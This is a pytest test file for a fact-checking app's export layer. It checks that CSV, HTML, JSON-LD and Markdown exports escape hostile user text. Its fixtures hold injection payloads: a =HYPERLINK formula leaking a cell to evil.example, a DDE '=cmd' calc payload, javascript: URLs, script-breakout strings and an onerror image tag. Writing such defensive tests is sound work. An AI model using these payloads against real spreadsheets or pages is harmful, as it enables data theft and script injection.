"""Safety of what we export: formulas in CSV, HTML in reports, `</script>` in JSON-LD,
Markdown in Markdown, and exports that never change data."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser

import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine
from sqlmodel import col

from claims import service
from claims.export.annotations import export_annotations
from claims.export.claimreview import export_claimreview
from claims.export.dump import write_dump
from claims.export.report import export_report
from claims.export.safety import csv_cell, json_for_script, markdown_text
from claims.export.tabular import export_claims
from claims.models import Article
from claims.service import Actor, ArticleInput, ClaimFilter
from claims.settings import Settings
from claims.store import write_session
from tests.test_export_support import (
    add_evidence,
    approve,
    database_text,
    review_seed,
    row_counts,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")'
SCRIPT = "<script>alert(1)</script>"
BREAKOUT = "</script><script>alert(1)</script>"
SETTINGS = Settings()


class Scripts(HTMLParser):
    """Collects every element name and the text of every <script> element."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self._in_script: dict[str, str | None] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag == "script":
            self._in_script = dict(attrs)
            self.scripts.append((self._in_script, ""))

    def handle_data(self, data: str) -> None:
        if self._in_script is not None:
            attrs, text = self.scripts[-1]
            self.scripts[-1] = (attrs, text + data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = None


def parse(page: str) -> Scripts:
    parser = Scripts()
    parser.feed(page)
    parser.close()
    return parser


@pytest.fixture
def hostile(engine: Engine, admin: Actor, checker: Actor, editor: Actor) -> int:
    """An article whose every user-written field tries to break out of its format."""
    body = (f"{HYPERLINK} was typed into the sheet, and 41 people clicked it in 2024. "
            f"He wrote {BREAKOUT} in the comment box on Monday. "
            f"The page showed {SCRIPT} to 12% of readers.")
    article = service.ingest_article(engine, admin, ArticleInput(
        text=body, title=f"{SCRIPT} & <b>bold</b>", outlet="@evil+outlet", body_is_text=True,
        author="-Mallory")).article_id
    # ingest refuses such a URL now; one stored before that rule (or restored from an old
    # dump) must still be exported safely
    with write_session(engine) as session:
        session.execute(sa.update(Article).where(col(Article.id) == article)
                        .values(url="javascript:alert(1)"))
    for words, verdict in ((HYPERLINK, "false"),
                           (f"He wrote {BREAKOUT} in the comment box on Monday.", "misleading"),
                           (f"The page showed {SCRIPT} to 12% of readers.", "half_true")):
        claim = service.add_claim(engine, checker, article, words=words)
        approve(engine, checker, editor, claim.id or 0, verdict,
                rationale=f"{SCRIPT} {HYPERLINK}")
        service.add_note(engine, checker, claim.id or 0, body="<img src=x onerror=alert(2)>")
        add_evidence(engine, checker, claim.id or 0, title=f"{SCRIPT}",
                     url="javascript:alert(3)", final_url="javascript:alert(3)",
                     publisher="=cmd|' /C calc'!A0", note=BREAKOUT)
    return article


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
def test_a_cell_that_starts_like_a_formula_gets_a_quote(cell: str) -> None:
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain", "a=b", " =x", "", None, 12, -3.5])
def test_other_cells_are_left_alone(cell: object) -> None:
    assert csv_cell(cell) == cell


def test_csv_neutralises_a_hyperlink_formula_from_the_article(engine: Engine,
                                                              hostile: int) -> None:
    out = io.StringIO()
    export_claims(engine, out, format="csv", filters=ClaimFilter(article_id=hostile))
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    texts = [row["text"] for row in rows]
    assert "'" + HYPERLINK in texts
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    approved = [row for row in rows if row["status"] == "approved"]
    assert len(approved) == 3
    assert {row["rationale"] for row in approved} == {f"{SCRIPT} {HYPERLINK}"}  # mid-cell


def test_the_jsonl_export_keeps_the_text_exact(engine: Engine, hostile: int) -> None:
    out = io.StringIO()
    export_claims(engine, out, format="jsonl", filters=ClaimFilter(article_id=hostile))
    texts = [json.loads(line)["text"] for line in out.getvalue().splitlines()]
    assert HYPERLINK in texts


def test_the_html_report_escapes_every_user_text(engine: Engine, hostile: int) -> None:
    page = export_report(engine, hostile, format="html", settings=SETTINGS)
    parsed = parse(page)
    assert [attrs for attrs, _ in parsed.scripts] == [{"type": "application/ld+json"}]
    assert "img" not in parsed.tags and "b" not in parsed.tags
    assert SCRIPT not in page and "<img" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(2)&gt;" not in page  # notes are not in the report
    assert 'href="javascript:' not in page  # unsafe links are shown as text, not linked


def test_json_ld_in_the_html_report_stays_inert(engine: Engine, hostile: int) -> None:
    page = export_report(engine, hostile, format="html", settings=SETTINGS)
    [(_, data)] = parse(page).scripts
    assert "</" not in data and "<!--" not in data
    items = json.loads(data)
    assert {i["reviewRating"]["alternateName"] for i in items} == {"False", "Misleading",
                                                                    "Half true"}
    reviewed = [i["claimReviewed"] for i in items]
    assert f"He wrote {BREAKOUT} in the comment box on Monday." in reviewed
    assert all(i["reviewBody"] == f"{SCRIPT} {HYPERLINK}" for i in items)


@pytest.mark.parametrize("text", [BREAKOUT, "<!-- x -->", "a</SCRIPT >b", "\u2028<&>"])
def test_json_for_script_escapes_what_could_end_the_element(text: str) -> None:
    data = json_for_script({"claim": text})
    assert "<" not in data and ">" not in data and "\u2028" not in data
    assert json.loads(data) == {"claim": text}


def test_the_markdown_report_escapes_markdown_and_html(engine: Engine, hostile: int) -> None:
    page = export_report(engine, hostile, format="md", settings=SETTINGS)
    assert SCRIPT not in page and "<b>" not in page and "<img" not in page
    assert r"\<script\>alert\(1\)\</script\>" in page
    assert "](javascript:" not in page and "(<javascript:" not in page


@pytest.mark.parametrize(("text", "expected"), [
    ("# not a heading", r"\# not a heading"),
    ("1. not a list", r"1\. not a list"),
    ("- not a list", r"\- not a list"),
    ("> not a quote", r"\> not a quote"),
    ("*not* _emphasis_ `code`", r"\*not\* \_emphasis\_ \`code\`"),
    ("[x](javascript:alert(1))", r"\[x\]\(javascript:alert\(1\)\)"),
    ("two\n\n# lines", "two # lines"),  # one line: a mid-line # starts nothing
    ("a | b", r"a \| b"),
    ("U.S. rose 1.9%", "U.S. rose 1.9%"),
])
def test_markdown_text_escapes_active_characters(text: str, expected: str) -> None:
    assert markdown_text(text) == expected


def test_exports_never_change_data(engine: Engine, checker: Actor, editor: Actor,
                                   seeded: int, hostile: int) -> None:
    review_seed(engine, checker, editor, seeded)
    before, counts = database_text(engine), row_counts(engine)
    for article in (seeded, hostile):
        for format in ("html", "md"):
            export_report(engine, article, format=format, settings=SETTINGS)
    for format in ("csv", "jsonl"):
        export_claims(engine, io.StringIO(), format=format)
    export_claimreview(engine, io.StringIO(), settings=SETTINGS)
    export_annotations(engine, io.StringIO(), settings=SETTINGS)
    write_dump(engine, io.StringIO(), with_secrets=True)
    assert row_counts(engine) == counts
    assert database_text(engine) == before
